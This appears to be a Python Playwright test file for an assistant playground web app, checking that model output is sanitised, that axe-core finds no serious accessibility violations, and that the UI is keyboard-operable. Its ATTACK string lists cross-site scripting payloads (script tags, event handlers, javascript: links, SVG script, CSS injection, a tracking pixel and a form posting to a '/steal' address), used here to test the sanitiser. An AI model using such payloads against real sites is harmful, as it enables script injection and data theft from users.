"""Model output cannot run script in the page, and the playground works with a keyboard alone and passes axe-core's
accessibility rules (no serious or critical violations) on its main screens."""

import json
import uuid

from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page, expect

from tests.browser.conftest import Playground
from tests.browser.test_playground import log, new_assistant, open_threads, send
from tests.model_server import ScriptedModel

ATTACK = "\n\n".join([
    "**Bold** words and a [fine link](https://example.com/docs).",
    "<script>window.__pwned = 'script'</script>",
    '<img src="x" onerror="window.__pwned = \'img\'">',
    "[click me](javascript:window.__pwned='link')",
    '<a href="javascript:window.__pwned=\'anchor\'">or me</a>',
    '<iframe src="javascript:window.__pwned=\'iframe\'"></iframe>',
    '<svg><script>window.__pwned = "svg"</script><circle onload="window.__pwned=\'svg2\'"/></svg>',
    '<details open ontoggle="window.__pwned=\'details\'"><summary>x</summary></details>',
    '<style>body { display: none }</style><p style="color: red" id="app">styled</p>',
    "![tracker](https://203.0.113.9/pixel.png)",
    '<form action="https://203.0.113.9/steal"><input name="k"><button>Go</button></form>',
])


def test_script_injection_in_model_output_is_inert(playground: Playground, model: ScriptedModel) -> None:
    page, w = playground.page, f"x{uuid.uuid4().hex[:10]}"
    model.script(w, {"text": ATTACK})
    playground.sign_in()
    assistant_id = new_assistant(playground, "Mischief", tools=())
    open_threads(playground, assistant_id)
    send(page, f"say something nasty {w}")
    reply = log(page).get_by_role("article", name="Assistant")
    expect(reply.locator("strong")).to_have_text("Bold")  # Markdown is rendered…
    expect(reply.get_by_role("link", name="fine link")).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(reply).to_contain_text("[image: tracker]")  # …a foreign image is not loaded…
    markdown = reply.locator(".markdown")
    # …and nothing executable, styled or submittable survives the sanitizer.
    assert markdown.locator("script, iframe, style, form, input, button, svg script").count() == 0
    found = markdown.evaluate("""m => [...m.querySelectorAll('*')].flatMap(el => [...el.attributes]
        .filter(a => a.name.startsWith('on') || a.name === 'style' || a.name === 'id' && a.value === 'app'
                     || /^\\s*javascript:/i.test(a.value)).map(a => el.tagName + ' ' + a.name))""")
    assert found == []
    for name in ("click me", "or me"):
        link = reply.get_by_text(name)
        if link.count():
            link.click()
    page.wait_for_timeout(500)
    assert page.evaluate("window.__pwned") is None
    expect(page.locator("#app")).to_be_visible()
    # The sanitizer, not only the Content-Security-Policy, did the work: the policy blocked nothing in the page.
    # (Chromium reports the handlers and styles it sees while DOMPurify parses the untrusted string into an inert
    # document — where nothing runs — as violations from the parser's line; those are the only ones allowed.)
    violations = playground.watch.csp_violations(page)
    assert all("/vendor/dompurify/purify.es.mjs:" in v for v in violations), violations
    assert not any("203.0.113.9" in r.url for r in playground.watch.requests)


def serious(page: Page) -> list[str]:
    results = Axe().run(page)
    return [f"{v['id']} ({v['impact']}): {v['help']} — {[n['target'] for n in v['nodes']][:3]}"
            for v in results.response["violations"] if v["impact"] in ("serious", "critical")]


def test_axe_finds_no_serious_violations(playground: Playground, model: ScriptedModel) -> None:
    page, w = playground.page, f"a{uuid.uuid4().hex[:10]}"
    page.goto(playground.url)
    assert serious(page) == []
    playground.sign_in()
    page.get_by_role("button", name="Add function").click()
    page.get_by_label("Code interpreter", exact=True).check()
    page.get_by_label("File search", exact=True).check()
    assert serious(page) == []

    model.script(w, {"tool_calls": [{"name": "code_interpreter", "arguments": json.dumps({"code": "print(2)"})}]},
                 {"tool_calls": [{"name": "lookup", "arguments": "{}"}]})
    client = playground.client
    fn = {"name": "lookup", "parameters": {"type": "object", "properties": {}}}
    tools = [{"type": "code_interpreter"}, {"type": "function", "function": fn}]
    assistant = client.beta.assistants.create(model="gpt-4o", name="Checker", tools=tools)  # type: ignore[arg-type]
    open_threads(playground, assistant.id)
    send(page, f"check {w}")
    expect(page.get_by_role("form", name="The run waits for a function's output")).to_be_visible()
    expect(log(page).get_by_role("region", name="Code interpreter")).to_contain_text("2")
    assert serious(page) == []


def test_keyboard_only(playground: Playground, model: ScriptedModel) -> None:
    """Sign in, reach the message box, send and read the reply without a mouse; focus is always visible."""
    page, w = playground.page, f"k{uuid.uuid4().hex[:10]}"
    model.script(w, {"text": "Heard you."})
    playground.client.beta.assistants.create(model="gpt-4o", name="Listener")
    page.goto(playground.url)

    def tab_to(role: str, name: str, limit: int = 60) -> None:
        target = page.get_by_role(role, name=name, exact=True)  # type: ignore[arg-type]
        for _ in range(limit):
            page.keyboard.press("Tab")
            if target.evaluate("el => el === document.activeElement"):
                style = "el => `${getComputedStyle(el).outlineStyle} ${getComputedStyle(el).outlineWidth}`"
                outline = target.evaluate(style)
                assert not outline.startswith("none") and not outline.endswith(" 0px"), f"{name}: {outline}"
                return
        raise AssertionError(f"{role} {name!r} not reached with Tab")

    tab_to("textbox", "API key")
    page.keyboard.type(playground.key)
    tab_to("button", "Sign in")
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="Assistants", exact=True).wait_for()
    tab_to("button", "Threads")
    page.keyboard.press("Enter")
    tab_to("textbox", "Message")
    page.keyboard.type(f"hello {w}")
    tab_to("button", "Send")
    page.keyboard.press("Enter")
    conversation = page.get_by_role("log", name="Conversation")
    expect(conversation.get_by_role("article", name="Assistant")).to_contain_text("Heard you.")
    assert conversation.get_attribute("aria-live") == "polite"
    # A finished message is no longer busy (while it streamed, screen readers waited for it whole).
    expect(conversation.get_by_role("article", name="Assistant")).not_to_have_attribute("aria-busy", "true")
    # Ctrl+Enter sends from the message box too.
    model.script(w, {"text": "Heard you again."})
    tab_to("textbox", "Message")
    page.keyboard.type(f"again {w}")
    page.keyboard.press("Control+Enter")
    expect(conversation.get_by_role("article", name="Assistant").nth(1)).to_contain_text("Heard you again.")
